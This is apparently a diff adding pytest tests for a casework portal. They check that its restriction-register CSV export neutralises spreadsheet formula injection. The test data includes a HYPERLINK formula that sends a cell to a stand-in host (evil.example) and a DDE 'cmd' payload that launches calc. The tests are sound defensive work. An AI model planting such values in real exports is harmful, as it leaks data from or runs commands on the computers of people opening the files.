@@ -1,0 +1,58 @@
+"""The restriction register as data teams export it: a CSV no cell of which a spreadsheet
+runs as a formula (portal.cases.register, portal.exports).
+
+Plain function calls on a throwaway SQLite database (tests/unit/cases/conftest.py).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+
+import pytest
+
+from portal.cases import objections, register
+from portal.cases.casework_models import DecisionOutcome
+from portal.cases.models import CaseKind
+from tests.unit.cases.builders import CASEWORKER, REVIEWER, at, propose, started
+
+
+def test_the_register_csv_cannot_smuggle_a_formula_into_a_spreadsheet(session):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    case = started(session, kind=CaseKind.OBJECTION)
+    case.subject.full_name = evil
+    session.commit()
+    objections.assess_objection(
+        session, case, grounds_raised="Fear", processing_affected=["programme"], actor=CASEWORKER
+    )
+    propose(session, case, DecisionOutcome.UPHELD, [])
+    objections.approve_decision(session, case, actor=REVIEWER, now=at(date(2026, 3, 5)))
+    rows = register.restriction_register(session)
+    assert [(r.subject_name, r.processing) for r in rows] == [(evil, "programme")]
+    text = register.restriction_register_csv(rows)
+    header, line = list(csv.reader(io.StringIO(text)))
+    assert header[:2] == ["Reference", "Name"]
+    assert line == [
+        case.reference,
+        "'" + evil,
+        "1988-02-14",
+        "programme",
+        "Linking their information for the Think Family programme",
+        "2026-03-05",
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    row = register.RestrictionRow(
+        reference="TF-AAAA-AAAA",
+        subject_name=f"{start}cmd|' /C calc'!A0",
+        date_of_birth=None,
+        processing="programme",
+        description="x",
+        from_date=date(2026, 3, 5),
+    )
+    [_header, line] = list(csv.reader(io.StringIO(register.restriction_register_csv([row]))))
+    assert line[1].startswith("'" + start)
+    assert line[2] == ""
